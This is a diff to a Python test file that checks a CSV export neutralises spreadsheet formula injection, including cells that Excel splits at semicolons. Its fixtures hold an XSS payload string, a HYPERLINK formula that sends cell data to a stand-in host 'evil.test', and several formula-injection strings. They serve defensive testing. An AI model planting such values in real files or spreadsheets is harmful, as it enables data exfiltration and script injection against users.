@@ -26,7 +26,7 @@ import sqlalchemy as sa
 
 import altcraft
 from altcraft.ledger import Ledger, Outcome, RelaunchPolicy, RunRef, Scope, Settlement
-from tests.conftest import copy_metadata
+from tests.conftest import copy_metadata, fresh_scenario_id
 
 from .airflow_server import NOBODY, READABLE, RESTRICTED, SLOW_GRACE, WATERMARK
 
@@ -34,6 +34,8 @@ REPO = Path(__file__).resolve().parents[2]
 PG = "postgresql+psycopg2://postgres@127.0.0.1:5432"
 SECRET = "secret_dag"
 XSS = "<img src=x onerror=alert(1)>"
+#: What makes a spreadsheet read a cell as a formula.
+FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
 FORMULAS = ('=HYPERLINK("http://evil.test/?"&A1,"x")', "+1+2", "-2+3", "@SUM(1)", "\tcmd", "\r=1")
 SCOPE, OLD = Scope("https://acme.altcraft.test", 7), Scope("https://acme.altcraft.test", 99)
 DIED = Scope("https://acme.altcraft.test", 8)
@@ -254,9 +256,36 @@ def test_the_csv_export_neutralises_formulas_and_masks_contacts(page):
     rows = list(csv.DictReader(io.StringIO(answer.text)))
     assert len(rows) == 8 + 1 + 1  # the run's contacts, its rejected row, the shared contact
     cells = [cell for row in rows for cell in row.values()]
-    assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]
-    assert {row["source_key"] for row in rows} >= {"'" + text for text in FORMULAS}  # kept, as text
+    assert not [cell for cell in cells if cell.startswith(FORMULA_STARTS)]
+    kept = {"'" + text for text in FORMULAS[:-1]} | {"'\r'=1"}  # as text; a line break may start a cell
+    assert {row["source_key"] for row in rows} >= kept
     assert "@example.org" not in answer.text
+
+
+#: Texts that start a cell in the middle of a cell where Excel reads a CSV with ``;`` (the list separator of
+#: its Russian locale, among others: it splits there and at every line break, a quote opens a cell only
+#: at the cell's start), each a formula there.
+HIDDEN_FORMULAS = ("x;=1+2;", 'x;"=1+2";', "x;@SUM(1);", "x\n=1+2", "x\r\n-2+3", "x;\t=1+2")
+
+
+def test_the_csv_export_neutralises_formulas_where_excel_splits_cells_at_semicolons(page, ledger_db):
+    """A reason or source key that Python's CSV writer leaves unquoted (no comma in it) was split by such an
+    Excel at its ``;``, the part after it a cell of its own that ran as a formula."""
+    engine = sa.create_engine(f"{PG}/{ledger_db}")
+    run = RunRef.create(READABLE, "import_and_launch", "hidden-formulas", 1)
+    rows = [(None, text, None, text) for text in HIDDEN_FORMULAS]
+    Ledger(engine).record(Scope(SCOPE.platform, fresh_scenario_id()), run, Outcome.REJECTED, rows)
+    engine.dispose()
+    answer = page.get("/run.csv", dag_id=READABLE, run_id="hidden-formulas")
+    assert answer.status_code == 200
+    exported = list(csv.DictReader(io.StringIO(answer.text)))
+    assert len(exported) == len(HIDDEN_FORMULAS)
+    for row in exported:  # every text kept, a spreadsheet shows it as text
+        assert row["reason"] == row["source_key"] and row["reason"].replace("'", "") in HIDDEN_FORMULAS
+    excel = csv.reader(io.StringIO(answer.text), delimiter=";")
+    as_excel_reads_it = [cell for line in excel for cell in line]
+    assert len(as_excel_reads_it) > 3 * len(HIDDEN_FORMULAS)  # split where such an Excel splits
+    assert not [cell for cell in as_excel_reads_it if cell.lstrip('"').startswith(FORMULA_STARTS)]
 
 
 def test_hostile_query_parameters_get_a_clear_4xx(page):
